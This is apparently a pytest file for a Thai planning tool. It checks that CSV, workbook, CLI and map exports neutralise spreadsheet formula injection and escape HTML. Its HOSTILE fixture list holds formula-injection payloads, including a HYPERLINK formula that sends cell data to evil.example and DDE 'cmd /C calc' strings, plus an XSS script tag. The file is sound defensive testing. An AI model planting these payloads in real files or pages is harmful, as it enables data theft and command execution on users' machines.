"""Formula injection through every export: projects CSV and workbook (and its round trip), ผ.02,
the matrix sheet, `cia plans list`, `cia areas` and `cia rank` (CSV and XLSX), the Data page's
report CSV writer; map exports (GeoJSON, KML, HTML) keep escaping hostile names."""

import io
import json
import xml.etree.ElementTree as ET

import openpyxl
import pandas as pd
import pytest

from analysis.cli import main
from analysis.exports import neutralise, restore, to_csv_bytes, to_xlsx_bytes
from analysis.plans.exports import matrix_xlsx, p02_xlsx, projects_csv, projects_workbook
from analysis.plans.imports import read_projects_workbook
from analysis.plans.matrix import score
from analysis.plans.records import KPI, MatrixItemRecord, MatrixRecord, PinRecord
from analysis.plans.service import store_for
from tests.test_plans_store import project

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"คลิก")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HTML = '<script>alert("x")</script>'


def cells(data: bytes) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_live_formula(data: bytes, allowed: set[str] = frozenset()) -> list:
    """No cell is a formula except ``allowed`` ones; every text cell is safe to open. Returns the cells."""
    found = cells(data)
    formulas = {c.value for c in found if c.data_type == "f"}
    assert formulas <= allowed, formulas - allowed
    for cell in found:
        if isinstance(cell.value, str) and cell.data_type != "f":
            assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), (cell.coordinate, cell.value)
    return found


def test_the_rule_text_only():
    for text in HOSTILE:
        assert neutralise(text) == "'" + text and restore(neutralise(text)) == text
    assert neutralise("ปกติ") == "ปกติ" and neutralise(-5) == -5 and neutralise(-2.5) == -2.5
    assert neutralise("'=x") == "'=x" and restore("'ok") == "'ok"


def test_csv_and_xlsx_writers_neutralise_cells_headers_and_notes():
    frame = pd.DataFrame({"ชื่อ": HOSTILE, "จำนวน": [-5, 3, -1, 0, 7, 2], HOSTILE[0]: ["a"] * 6})
    csv = pd.read_csv(io.BytesIO(to_csv_bytes(frame)), dtype=str, keep_default_na=False)
    assert csv["ชื่อ"].tolist() == ["'" + h for h in HOSTILE]
    assert csv["จำนวน"].tolist() == ["-5", "3", "-1", "0", "7", "2"]  # numbers stay numbers
    assert list(csv.columns)[2] == "'" + HOSTILE[0]
    data = to_xlsx_bytes(frame, sheet="=bad[sheet]", notes=[HOSTILE[1]])
    found = assert_no_live_formula(data)
    values = [c.value for c in found]
    assert "'" + HOSTILE[1] in values and "'" + HOSTILE[0] in values
    assert -5 in values and -1 in values  # numeric cells, not text
    assert openpyxl.load_workbook(io.BytesIO(data)).sheetnames == ["=bad_sheet_"]


def hostile_project():
    record = project(
        title=HOSTILE[0],
        objective=HOSTILE[1],
        outputs=HOSTILE[2],
        outcomes=HOSTILE[3],
        responsible_agency=HOSTILE[4],
        causes=HOSTILE[5],
        kpis=[KPI(HOSTILE[2], None, None, "%", None, None, 80.0, 2569)],
    )
    record.id, record.version = 1, 1
    return record


def test_projects_csv_workbook_and_p02():
    record = hostile_project()
    csv = pd.read_csv(io.BytesIO(projects_csv([record])), dtype=str, keep_default_na=False)
    assert csv.loc[0, "ชื่อโครงการ"] == "'" + HOSTILE[0]
    assert csv.loc[0, "วัตถุประสงค์"] == "'" + HOSTILE[1]
    workbook = projects_workbook([record])
    assert_no_live_formula(workbook)
    p02 = p02_xlsx([record], HOSTILE[3], demo_note=HOSTILE[4])
    found = assert_no_live_formula(
        p02, allowed={"=SUM(E6:E6)", "=SUM(F6:F6)", "=SUM(G6:G6)", "=SUM(H6:H6)", "=SUM(I6:I6)"}
    )
    values = [c.value for c in found]
    assert "'" + HOSTILE[0] in values and "'" + HOSTILE[4] in values
    assert "'" + HOSTILE[2] + " ≥ 80%" in values  # the KPI text
    # the projects workbook reads its own neutralised text back exactly
    records, report = read_projects_workbook(workbook, "p.xlsx")
    assert not report.has_errors
    back = records[0]
    assert (back.title, back.objective, back.outputs, back.outcomes) == tuple(HOSTILE[:4])
    assert back.kpis[0].name == HOSTILE[2]


def test_matrix_sheet():
    matrix = score(
        MatrixRecord(
            "990101",
            2567,
            HOSTILE[0],
            participants=HOSTILE[1],
            items=[MatrixItemRecord(HOSTILE[3], 4, 3, 2, 4, pct_fail=-0.0)],
        )
    )
    found = assert_no_live_formula(matrix_xlsx(matrix, HOSTILE[2]))
    values = [c.value for c in found]
    assert "'" + HOSTILE[3] in values
    assert any(isinstance(v, str) and v.endswith(HOSTILE[0]) for v in values)  # "ตาราง…: =HYPERLINK" is safe


@pytest.fixture
def hostile_demo(demo_workspace):
    """The demo with a hostile project, pin and tambon name."""
    store = store_for(demo_workspace.root)
    store.create_project(project(title=HOSTILE[0], objective=HOSTILE[1], villages=[]), "สมชาย")
    store.create_pin(
        PinRecord(category="otop", name=f"{HOSTILE[0]} {HTML}", lat=15.45, lon=103.05, village_code="99010101"),
        "สมชาย",
    )
    path = demo_workspace.root / "areas" / "custom_areas.csv"
    areas = pd.read_csv(path, dtype=str, keep_default_na=False)
    areas.loc[areas["area_code"] == "990101", "name_th"] = HOSTILE[1]
    areas.to_csv(path, index=False)
    return demo_workspace


def test_cli_plans_list_areas_and_rank(hostile_demo, tmp_path, capsys):
    root = str(hostile_demo.root)
    assert main(["plans", "list", "-w", root, "--format", "csv"]) == 0
    listed = pd.read_csv(io.StringIO(capsys.readouterr().out), dtype=str, keep_default_na=False)
    assert "'" + HOSTILE[0] in listed["ชื่อโครงการ"].tolist()
    out = tmp_path / "plans.xlsx"
    assert main(["plans", "list", "-w", root, "--format", "xlsx", "--out", str(out)]) == 0
    assert "'" + HOSTILE[0] in [c.value for c in assert_no_live_formula(out.read_bytes())]
    for command in (["areas", "--level", "tambon"], ["rank", "--area", "990101"]):
        out = tmp_path / "x.xlsx"
        assert main([*command, "-w", root, "--format", "xlsx", "--out", str(out)]) == 0
        assert_no_live_formula(out.read_bytes())
    assert main(["areas", "--level", "tambon", "-w", root, "--format", "csv"]) == 0
    areas = pd.read_csv(io.StringIO(capsys.readouterr().out), dtype=str, keep_default_na=False)
    # the register puts the level before a name ("ตำบล…"), so the hostile name arrives harmless
    assert set(areas.loc[areas["area_code"] == "990101", "area_name"]) == {"ตำบล" + HOSTILE[1]}
    assert not areas.apply(lambda c: c.str.startswith(tuple("=+-@\t\r"))).any().any()


def test_map_exports_keep_hostile_names_escaped(hostile_demo, tmp_path):
    root = str(hostile_demo.root)
    for fmt in ("geojson", "kml", "html"):
        out = tmp_path / f"m.{fmt}"
        args = ["map", "export", "-w", root, "--area", "9901", "--layer", "indicator:29", "--format", fmt]
        assert main([*args, "--out", str(out)]) == 0
    page = (tmp_path / "m.html").read_text(encoding="utf-8")
    assert HTML not in page and "&lt;script&gt;" in page or "\\u003cscript" in page
    kml = ET.parse(tmp_path / "m.kml").getroot()
    names = [n.text for n in kml.iter("{http://www.opengis.net/kml/2.2}name")]
    assert f"{HOSTILE[0]} {HTML}" in names  # the XML writer escapes it; the text reads back intact
    collection = json.loads((tmp_path / "m.geojson").read_text(encoding="utf-8"))
    tambon = next(f for f in collection["features"] if f["properties"]["area_code"] == "990101")
    assert "<script>" not in json.dumps(tambon["properties"], ensure_ascii=False)
